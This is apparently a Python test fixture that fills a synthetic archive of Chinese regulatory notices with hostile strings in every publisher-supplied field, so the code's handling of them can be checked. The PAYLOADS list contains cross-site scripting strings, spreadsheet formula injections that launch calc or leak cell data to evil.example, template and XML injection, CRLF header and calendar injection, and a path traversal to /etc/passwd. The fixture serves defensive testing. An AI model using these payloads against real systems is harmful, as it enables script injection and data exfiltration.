"""A made archive in which every field that a publisher fills means harm: one notice a payload, twice read."""

from datetime import date, timedelta
from pathlib import Path

from web_archive import NOW, REGISTER, look

from storage import blobs
from storage.archive import open_archive
from storage.archive.runs import ChannelDeclaration, Check, begin_run, declare_channels, finish_run, record_check
from storage.database import writing
from storage.model import Attachment, Entry, Facts, Fine, PenaltyRule, Reading, Reference, Table

PAYLOADS = (
    "<script>alert('sploit')</script><img src=x onerror=alert(1)><svg/onload=alert(2)>",
    "\"><iframe src=javascript:alert(3)></iframe><a href='javascript:alert(4)'>x</a><style>*{display:none}</style>",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "x{{7*191}}y{% for a in b %}${7*191}",
    "]]></title><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(5)</x:script><![CDATA[",
    "名单\r\nBcc: all@evil.example\r\nX-Injected: yes\r\n\r\nbody",
    "会\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:injected\r\nATTACH:http://evil.example/x",
    "gnp.exe\u202e\u2066\u0007\u0000\u001b[31m\u009b",
    "&lt;script&gt;&#x3c;b&#x3e;%0d%0aSet-Cookie:a=b",
    "../../../../etc/passwd\u0000.html",
)


def made(folder: Path) -> dict[str, str]:
    """A notice a payload, twice read, with the payload wherever a publisher's words stand; ids by payload."""
    db = open_archive(folder)
    channel = ChannelDeclaration(
        "miit", "wjfb", PAYLOADS[0], PAYLOADS[1], PAYLOADS[2], PAYLOADS[3], "http://a.example", 24.0
    )
    declare_channels(db, [channel], NOW - timedelta(days=9))
    run = begin_run(db, "crawl", NOW - timedelta(hours=1), "test")
    record_check(db, run, Check("miit", "wjfb", "drifted", error=PAYLOADS[0] + PAYLOADS[10]), NOW - timedelta(hours=1))
    finish_run(db, run)
    ids = {}
    for number, bad in enumerate(PAYLOADS):
        with writing(db):
            held = blobs.put(db, f"<script>{bad}</script>".encode(), "miit/file")
        file = Attachment(
            bad + ".html",
            "javascript:alert(6)//" + bad,
            held.sha256,
            bad,
            9,
            True,
            text=bad * 2,
            tables=(Table(((bad, bad), (bad, bad)), 1, name=bad),),
        )
        unread = Attachment(bad, "data:text/html," + bad, held.sha256, "text/html", 9, False, fault=bad)
        rule = PenaltyRule(
            bad, bad, bad, bad, (Fine("yuan_range", 1, 2 + number, "yuan", bad, "unit"),), bad, flags=(bad,)
        )
        for turn in (0, 1):
            facts = Facts(
                doc_number=bad,
                issuers=(bad, "工业和信息化部"),
                stage="issued",
                topics=("penalty_benchmark", "list_publication"),
                on_subject=True,
                province="广东" if number % 2 else "",
                title_core=bad,
                published_on=date(2026, 5, 14),
                comment_deadline=date(2026, 6, 1 + number),
                effective_on=date(2026, 5, 15),
                warnings=(bad,),
                entries=(
                    Entry(
                        REGISTER,
                        "listed",
                        f"{bad}{number}公司",
                        uscc=bad,
                        province=bad,
                        entry_type=bad,
                        batch=bad,
                        row=bad,
                    ),
                ),
                penalties=(rule,),
                references=(Reference("basis", bad, bad, bad),),
            )
            seen = Reading(
                f"{bad}{turn}",
                f"{bad}\n第{turn}段{bad}",
                "reader-1",
                tables=(Table(((bad, bad), (bad, f"{turn}{bad}")), 1, name=bad),),
                fields={bad or "x": f"{bad}{turn}"},
                attachments=(file, unread),
                facts=facts,
            )
            ids[bad] = look(db, f"h{number}.html", seen, NOW - timedelta(days=2 - turn, hours=2))
    db.close()
    return ids
